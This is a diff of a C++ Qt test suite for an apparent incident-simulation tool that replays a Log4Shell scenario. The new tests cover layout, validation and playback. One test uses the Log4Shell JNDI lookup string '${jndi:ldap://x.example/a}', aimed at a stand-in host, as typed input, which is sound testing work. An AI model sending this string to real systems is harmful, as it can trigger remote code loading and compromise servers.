@@ -2,8 +2,13 @@
 #include "scenario/player.h"
 #include "scenario/storyteller.h"
 
+#include <QDir>
+#include <QElapsedTimer>
 #include <QFile>
 #include <QJsonDocument>
+#include <QLineF>
+#include <QRectF>
+#include <QSet>
 #include <QSignalSpy>
 #include <QTemporaryDir>
 #include <QTest>
@@ -48,17 +53,24 @@ class ScenarioTest : public QObject
 
 private slots:
     void theLibraryHasTheClassic();
+    void theClassicIsWellLaidOut();
+    void readsEveryBuiltInFile();
     void namesThePlaceOfMistakes_data();
     void namesThePlaceOfMistakes();
     void aFolderAddsAndReplaces();
     void drawsFreshFactsInTheirRanges_data();
     void drawsFreshFactsInTheirRanges();
+    void drawsNoFactTwice();
+    void refusesMorePlaceholdersThanFacts();
     void tellsTheSameStoryForTheSameSeed();
     void avoidsWhatIsTaken();
     void takesWhatWasTyped();
     void playsInOrder_data();
     void playsInOrder();
     void stopsWhenTold();
+    void stoppingAtTheDetectionDetectsNothing();
+    void startsAnew();
+    void livePaceKeepsTheTimes();
 };
 
 void ScenarioTest::theLibraryHasTheClassic()
@@ -67,11 +79,71 @@ void ScenarioTest::theLibraryHasTheClassic()
     const Scenario *scenario = library.find(u"log4shell");
     QVERIFY(scenario);
     QCOMPARE(scenario->sightings.size(), 2);
-    for (const QString &kind : {u"attacker"_s, u"internet"_s, u"router"_s, u"firewall"_s, u"switch"_s, u"access-point"_s, u"camera"_s, u"web-server"_s})
+    for (const QString &kind : {u"attacker"_s, u"internet"_s, u"router"_s, u"firewall"_s, u"switch"_s,
+                                u"access-point"_s, u"camera"_s, u"web-server"_s})
         QVERIFY2(scenario->nodeOfKind(kind), qPrintable(kind));
-    const auto wireless = std::count_if(scenario->links.cbegin(), scenario->links.cend(), [](const Link &link) { return link.wireless; });
+    const auto wireless = std::count_if(scenario->links.cbegin(), scenario->links.cend(),
+                                        [](const Link &link) { return link.wireless; });
     QCOMPARE(wireless, 4);
-    QVERIFY(scenario->duration() > std::chrono::seconds(5) && scenario->duration() < std::chrono::seconds(20));
+    QVERIFY(scenario->duration() >= std::chrono::seconds(12) &&
+            scenario->duration() <= std::chrono::seconds(15));
+    QVERIFY(std::any_of(scenario->beats.cbegin(), scenario->beats.cend(),
+                        [](const Beat &beat) { return !beat.notes.isEmpty(); }));
+    const auto hashes = std::count_if(
+        scenario->sightings.at(1).observables.cbegin(), scenario->sightings.at(1).observables.cend(),
+        [](const intel::Observable &observable) { return observable.type == u"sha256"; });
+    QCOMPARE(hashes, 2);
+    for (const intel::Sighting &sighting : scenario->sightings)
+        QVERIFY(!sighting.observables.isEmpty() && !sighting.targets.isEmpty() &&
+                !sighting.relations.isEmpty());
+}
+
+void ScenarioTest::theClassicIsWellLaidOut()
+{
+    // What a node takes on the plane: its symbol, and below it the label in large letters.
+    const auto symbol = [](const Node &node) {
+        return QRectF(node.position.x() - 33, node.position.y() - 33, 66, 66);
+    };
+    const auto label = [](const Node &node) {
+        const double width = 12.0 * double(node.label.size());
+        return QRectF(node.position.x() - width / 2, node.position.y() + 36, width, 27);
+    };
+    const ScenarioLibrary library;
+    const Scenario &scenario = *library.find(u"log4shell");
+    const QRectF plane(0, 0, 1000, 600);
+    for (const Node &node : scenario.nodes) {
+        QVERIFY2(plane.contains(symbol(node)) && plane.contains(label(node)), qPrintable(node.id));
+        for (const Node &other : scenario.nodes) {
+            if (other.id == node.id)
+                continue;
+            const QString pair = node.id + u' ' + other.id;
+            QVERIFY2(!label(node).intersects(label(other)) && !label(node).intersects(symbol(other)),
+                     qPrintable(pair));
+            QVERIFY2(!symbol(node).intersects(symbol(other)), qPrintable(pair));
+        }
+        for (const Link &link : scenario.links) {
+            if (link.from == node.id || link.to == node.id)
+                continue;
+            const QLineF line(scenario.node(link.from)->position, scenario.node(link.to)->position);
+            for (int step = 0; step <= 200; ++step)
+                QVERIFY2(!symbol(node).contains(line.pointAt(step / 200.0)),
+                         qPrintable(node.id + u' ' + link.from + u' ' + link.to));
+        }
+    }
+}
+
+void ScenarioTest::readsEveryBuiltInFile()
+{
+    const ScenarioLibrary library;
+    const QStringList files = QDir(QStringLiteral(SANDTABLE_SOURCE_DIR "/resources/scenarios"))
+                                  .entryList({u"*.json"_s}, QDir::Files);
+    QVERIFY(!files.isEmpty());
+    QCOMPARE(library.scenarios().size(), files.size());
+    for (const QString &file : files) {
+        const Result<Scenario> scenario = readScenarioFile(u":/scenarios/"_s + file);
+        QVERIFY2(scenario.has_value(), scenario ? "" : qPrintable(toText(scenario.error())));
+        QCOMPARE(scenario->id + u".json"_s, file);
+    }
 }
 
 void ScenarioTest::namesThePlaceOfMistakes_data()
@@ -80,23 +152,70 @@ void ScenarioTest::namesThePlaceOfMistakes_data()
     QTest::addColumn<QJsonValue>("value");
     QTest::addColumn<QString>("place");
     QTest::addColumn<QString>("detail");
-    QTest::newRow("number") << u"beats.3.at_ms"_s << QJsonValue(u"soon"_s) << u"beats[3].at_ms"_s << u"expected a number"_s;
+    QTest::newRow("number") << u"beats.3.at_ms"_s << QJsonValue(u"soon"_s) << u"beats[3].at_ms"_s
+                            << u"expected a number"_s;
     QTest::newRow("order") << u"beats.3.at_ms"_s << QJsonValue(1) << u"beats[3].at_ms"_s << u"earlier"_s;
-    QTest::newRow("missing") << u"incident.title"_s << QJsonValue(QJsonValue::Undefined) << u"incident.title"_s << u"expected a text"_s;
-    QTest::newRow("unknown key") << u"login.colour"_s << QJsonValue(u"red"_s) << u"login.colour"_s << u"unknown"_s;
-    QTest::newRow("unknown node") << u"beats.2.node"_s << QJsonValue(u"moon"_s) << u"beats[2].node"_s << u"no node moon"_s;
-    QTest::newRow("no such link") << u"beats.1.path.2"_s << QJsonValue(u"files"_s) << u"beats[1].path[2]"_s << u"no link"_s;
-    QTest::newRow("kind of node") << u"nodes.0.kind"_s << QJsonValue(u"toaster"_s) << u"nodes[0].kind"_s << u"expected one of"_s;
-    QTest::newRow("off the plane") << u"nodes.0.x"_s << QJsonValue(2000) << u"nodes[0].x"_s << u"from 0 to 1000"_s;
-    QTest::newRow("twice the same node") << u"nodes.1.id"_s << QJsonValue(u"attacker"_s) << u"nodes[1].id"_s << u"another node"_s;
-    QTest::newRow("placeholder nobody draws") << u"incident.title"_s << QJsonValue(u"{{nothing}}"_s) << u"incident.title"_s << u"no placeholder nothing"_s;
-    QTest::newRow("kind of fact") << u"placeholders.attacker_ip"_s << QJsonValue(u"telephone"_s) << u"placeholders.attacker_ip"_s << u"expected one of"_s;
-    QTest::newRow("version") << u"version"_s << QJsonValue(2) << u"version"_s << u"from 1 to 1"_s;
+    QTest::newRow("missing") << u"incident.title"_s << QJsonValue(QJsonValue::Undefined)
+                             << u"incident.title"_s << u"expected a text"_s;
+    QTest::newRow("unknown key") << u"login.colour"_s << QJsonValue(u"red"_s) << u"login.colour"_s
+                                 << u"unknown"_s;
+    QTest::newRow("unknown node") << u"beats.2.node"_s << QJsonValue(u"moon"_s) << u"beats[2].node"_s
+                                  << u"no node moon"_s;
+    QTest::newRow("no such link") << u"beats.1.path.2"_s << QJsonValue(u"files"_s) << u"beats[1].path[2]"_s
+                                  << u"no link"_s;
+    QTest::newRow("kind of node") << u"nodes.0.kind"_s << QJsonValue(u"toaster"_s) << u"nodes[0].kind"_s
+                                  << u"expected one of"_s;
+    QTest::newRow("off the plane") << u"nodes.0.x"_s << QJsonValue(2000) << u"nodes[0].x"_s
+                                   << u"from 0 to 1000"_s;
+    QTest::newRow("twice the same node")
+        << u"nodes.1.id"_s << QJsonValue(u"attacker"_s) << u"nodes[1].id"_s << u"another node"_s;
+    QTest::newRow("placeholder nobody draws") << u"incident.title"_s << QJsonValue(u"{{nothing}}"_s)
+                                              << u"incident.title"_s << u"no placeholder nothing"_s;
+    QTest::newRow("kind of fact") << u"placeholders.attacker_ip"_s << QJsonValue(u"telephone"_s)
+                                  << u"placeholders.attacker_ip"_s << u"expected one of"_s;
+    QTest::newRow("version") << u"version"_s << QJsonValue(2) << u"version"_s << u"expected 1"_s;
     QTest::newRow("format") << u"format"_s << QJsonValue(u"play"_s) << u"format"_s << u"expected one of"_s;
     QTest::newRow("list") << u"sightings"_s << QJsonValue(QJsonArray()) << u"sightings"_s << u"not empty"_s;
-    QTest::newRow("two sightings of one name") << u"sightings.1.name"_s << QJsonValue(u"connection"_s) << u"sightings[1].name"_s << u"taken"_s;
-    QTest::newRow("deep") << u"sightings.0.targets.0.observables.0.type"_s << QJsonValue(7) << u"sightings[0].targets[0].observables[0].type"_s << u"expected a text"_s;
-    QTest::newRow("detected when blocked") << u"blocked_beats.0.kind"_s << QJsonValue(u"detected"_s) << u"blocked_beats"_s << u"not detected again"_s;
+    QTest::newRow("two sightings of one name")
+        << u"sightings.1.name"_s << QJsonValue(u"connection"_s) << u"sightings[1].name"_s << u"taken"_s;
+    QTest::newRow("deep") << u"sightings.0.targets.0.observables.0.type"_s << QJsonValue(7)
+                          << u"sightings[0].targets[0].observables[0].type"_s << u"expected a text"_s;
+    QTest::newRow("detected when blocked") << u"blocked_beats.0.kind"_s << QJsonValue(u"detected"_s)
+                                           << u"blocked_beats"_s << u"not detected again"_s;
+    QTest::newRow("a long way off") << u"beats.3.at_ms"_s << QJsonValue(1e300) << u"beats[3].at_ms"_s
+                                    << u"from 0 to 600000"_s;
+    QTest::newRow("nothing to block")
+        << u"block"_s << QJsonValue(QJsonArray()) << u"block"_s << u"at least one"_s;
+    QTest::newRow("no list to block")
+        << u"block"_s << QJsonValue(QJsonValue::Undefined) << u"block"_s << u"expected a list"_s;
+    QTest::newRow("blocks what nobody saw")
+        << u"block.0"_s << QJsonValue(u"192.0.2.77"_s) << u"block[0]"_s << u"no sighting"_s;
+    QTest::newRow("link to itself") << u"links.0.to"_s << QJsonValue(u"attacker"_s) << u"links[0].to"_s
+                                    << u"two nodes"_s;
+    QTest::newRow("link to nowhere") << u"links.0.to"_s << QJsonValue(u"moon"_s) << u"links[0].to"_s
+                                     << u"no node moon"_s;
+    QTest::newRow("kind of observable") << u"sightings.0.observables.0.type"_s << QJsonValue(u"telephone"_s)
+                                        << u"sightings[0].observables[0].type"_s << u"type of observable"_s;
+    QTest::newRow("kind of a related observable")
+        << u"sightings.1.relations.0.related.type"_s << QJsonValue(u"IP"_s)
+        << u"sightings[1].relations[0].related.type"_s << u"type of observable"_s;
+    QTest::newRow("name of a sighting")
+        << u"sightings.0.name"_s << QJsonValue(u"a, b"_s) << u"sightings[0].name"_s << u"small letters"_s;
+    QTest::newRow("name of the incident")
+        << u"sightings.0.name"_s << QJsonValue(u"incident"_s) << u"sightings[0].name"_s << u"taken"_s;
+    QTest::newRow("long title") << u"incident.title"_s << QJsonValue(QString(1025, u'x'))
+                                << u"incident.title"_s << u"at most 1024"_s;
+    QTest::newRow("long description") << u"sightings.1.description"_s << QJsonValue(QString(5001, u'x'))
+                                      << u"sightings[1].description"_s << u"at most 5000"_s;
+    QTest::newRow("placeholder payload")
+        << u"placeholders.payload"_s << QJsonValue(u"ipv4"_s) << u"placeholders.payload"_s << u"typed"_s;
+    QTest::newRow("severity") << u"incident.severity"_s << QJsonValue(u"Bad"_s) << u"incident.severity"_s
+                              << u"Low, Medium, High, Critical"_s;
+    QTest::newRow("no payloads") << u"login.payloads"_s << QJsonValue(QJsonArray()) << u"login.payloads"_s
+                                 << u"not empty"_s;
+    QTest::newRow("wireless or not") << u"links.0.wireless"_s << QJsonValue(1) << u"links[0].wireless"_s
+                                     << u"true or false"_s;
+    QTest::newRow("id on two lines") << u"id"_s << QJsonValue(u"two\n"_s) << u"id"_s << u"small letters"_s;
     QTest::newRow("id") << u"id"_s << QJsonValue(u"Two Words"_s) << u"id"_s << u"small letters"_s;
 }
 
@@ -144,14 +263,16 @@ void ScenarioTest::drawsFreshFactsInTheirRanges_data()
 {
     QTest::addColumn<QString>("kind");
     QTest::addColumn<QString>("pattern");
-    QTest::newRow("ipv4") << u"ipv4"_s << u"^(198\\.51\\.100|203\\.0\\.113)\\.([1-9]\\d?|1\\d\\d|2[0-4]\\d|25[0-4])$"_s;
+    QTest::newRow("ipv4") << u"ipv4"_s
+                          << u"^(198\\.51\\.100|203\\.0\\.113)\\.([1-9]\\d?|1\\d\\d|2[0-4]\\d|25[0-4])$"_s;
     QTest::newRow("ipv6") << u"ipv6"_s << u"^2001:db8:[0-9a-f]{1,4}:[0-9a-f]{1,4}::[0-9a-f]{1,4}$"_s;
     QTest::newRow("domain") << u"domain"_s << u"^[a-z]+\\.example$"_s;
     QTest::newRow("url") << u"url"_s << u"^http://[a-z]+\\.example/[a-z]+$"_s;
     QTest::newRow("sha256") << u"sha256"_s << u"^[0-9a-f]{64}$"_s;
     QTest::newRow("sha1") << u"sha1"_s << u"^[0-9a-f]{40}$"_s;
     QTest::newRow("md5") << u"md5"_s << u"^[0-9a-f]{32}$"_s;
-    QTest::newRow("uuid") << u"uuid"_s << u"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"_s;
+    QTest::newRow("uuid") << u"uuid"_s
+                          << u"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"_s;
     QTest::newRow("hostname") << u"hostname"_s << u"^[a-z]+-\\d\\d$"_s;
 }
 
@@ -164,6 +285,36 @@ void ScenarioTest::drawsFreshFactsInTheirRanges()
         const QString fact = drawFact(kind, random);
         QVERIFY2(QRegularExpression(pattern).match(fact).hasMatch(), qPrintable(fact));
     }
+}
+
+void ScenarioTest::drawsNoFactTwice()
+{
+    QJsonObject document = log4shellDocument();
+    QJsonObject placeholders = document.value(u"placeholders"_s).toObject();
+    for (int i = placeholders.size(); i < 64; ++i)
+        placeholders.insert(u"address_%1"_s.arg(i), u"ipv4"_s);
+    document.insert(u"placeholders"_s, placeholders);
+    const Result<Scenario> scenario = Scenario::fromJson(document);
+    QVERIFY(scenario.has_value());
+    SeededRandom random(1);
+    const Result<Story> story = tellStory(*scenario, random, u"run"_s, {});
+    QVERIFY(story.has_value());
+    const QStringList facts = story->facts.values();
+    QCOMPARE(QSet<QString>(facts.cbegin(), facts.cend()).size(), facts.size());
+}
+
+void ScenarioTest::refusesMorePlaceholdersThanFacts()
+{
+    // There are 508 addresses to draw: more placeholders could never be told apart.
+    QJsonObject document = log4shellDocument();
+    QJsonObject placeholders = document.value(u"placeholders"_s).toObject();
+    for (int i = 0; i < 600; ++i)
+        placeholders.insert(u"address_%1"_s.arg(i), u"ipv4"_s);
+    document.insert(u"placeholders"_s, placeholders);
+    const Result<Scenario> scenario = Scenario::fromJson(document);
+    QVERIFY(!scenario.has_value());
+    QCOMPARE(scenario.error().place, u"placeholders"_s);
+    QCOMPARE(scenario.error().detail, u"expected at most 64"_s);
 }
 
 void ScenarioTest::tellsTheSameStoryForTheSameSeed()
@@ -207,7 +358,8 @@ void ScenarioTest::takesWhatWasTyped()
 {
     const ScenarioLibrary library;
     SeededRandom random(3);
-    for (const QString &typed : {u"${jndi:ldap://x.example/a}"_s, u"{{attacker_ip}} {{nothing}} \"quoted\" <b>"_s, QString(100000, u'x')}) {
+    for (const QString &typed : {u"${jndi:ldap://x.example/a}"_s,
+                                 u"{{attacker_ip}} {{nothing}} \"quoted\" <b>"_s, QString(100000, u'x')}) {
         const Result<Story> story = tellStory(*library.find(u"log4shell"), random, u"run"_s, typed);
         QVERIFY(story.has_value());
         const QString fact = story->facts.value(u"payload"_s);
@@ -257,6 +409,54 @@ void ScenarioTest::stopsWhenTold()
     QTest::qWait(20);
     QCOMPARE(count, 3);
     QCOMPARE(finished.size(), 0);
+}
+
+void ScenarioTest::stoppingAtTheDetectionDetectsNothing()
+{
+    const ScenarioLibrary library;
+    ScenarioPlayer player;
+    QSignalSpy detected(&player, &ScenarioPlayer::detected);
+    bool reached = false;
+    connect(&player, &ScenarioPlayer::beatPlayed, this, [&](const Beat &beat) {
+        if (beat.kind == BeatKind::Detected) {
+            reached = true;
+            player.stop();
+        }
+    });
+    player.play(*library.find(u"log4shell"), ScenarioPlayer::Pace::Instant, false);
+    QTRY_VERIFY(reached);
+    QCoreApplication::processEvents();
+    QCOMPARE(detected.size(), 0);
+}
+
+void ScenarioTest::startsAnew()
+{
+    const ScenarioLibrary library;
+    const Scenario &scenario = *library.find(u"log4shell");
+    ScenarioPlayer player;
+    QSignalSpy finished(&player, &ScenarioPlayer::finished);
+    QList<Beat> played;
+    connect(&player, &ScenarioPlayer::beatPlayed, this, [&](const Beat &beat) { played.append(beat); });
+    player.play(scenario, ScenarioPlayer::Pace::Live, false);
+    QTRY_COMPARE(played.size(), 1);
+    player.play(scenario, ScenarioPlayer::Pace::Instant, true);
+    QTRY_COMPARE(finished.size(), 1);
+    QCOMPARE(played.mid(1), scenario.blockedBeats);
+}
+
+void ScenarioTest::livePaceKeepsTheTimes()
+{
+    Scenario scenario = *ScenarioLibrary().find(u"log4shell");
+    scenario.beats.resize(3);
+    for (qsizetype i = 0; i < scenario.beats.size(); ++i)
+        scenario.beats[i].at = std::chrono::milliseconds(60 * i);
+    ScenarioPlayer player;
+    QSignalSpy finished(&player, &ScenarioPlayer::finished);
+    QElapsedTimer timer;
+    timer.start();
+    player.play(scenario, ScenarioPlayer::Pace::Live, false);
+    QTRY_COMPARE(finished.size(), 1);
+    QVERIFY2(timer.elapsed() >= 119, qPrintable(QString::number(timer.elapsed())));
 }
 
 QTEST_GUILESS_MAIN(ScenarioTest)
